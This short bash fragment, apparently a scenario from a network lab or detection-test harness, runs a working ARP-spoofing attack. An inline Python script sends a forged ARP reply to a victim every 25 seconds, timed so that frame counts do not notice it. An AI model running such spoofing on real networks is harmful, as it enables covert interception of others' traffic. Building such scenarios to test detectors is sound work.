# shellcheck shell=bash
# One forged ARP reply to the victim, then nothing for 25 s: nothing that a count of frames would notice.
start() { att_forward; mark
  sbg attacker quiet python3 -c '
import socket, sys, time
mac = lambda t: bytes.fromhex(t.replace(":", ""))
ip = socket.inet_aton
me, victim, gw_ip, victim_ip = mac(sys.argv[1]), mac(sys.argv[2]), ip(sys.argv[3]), ip(sys.argv[4])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0x0806))
while True:
    s.send(victim + me + bytes.fromhex("0806000108000604") + b"\0\2" + me + gw_ip + victim + victim_ip)
    time.sleep(25)
' $ATT_MAC $VICTIM_MAC $GW_IP $VICTIM_IP; }
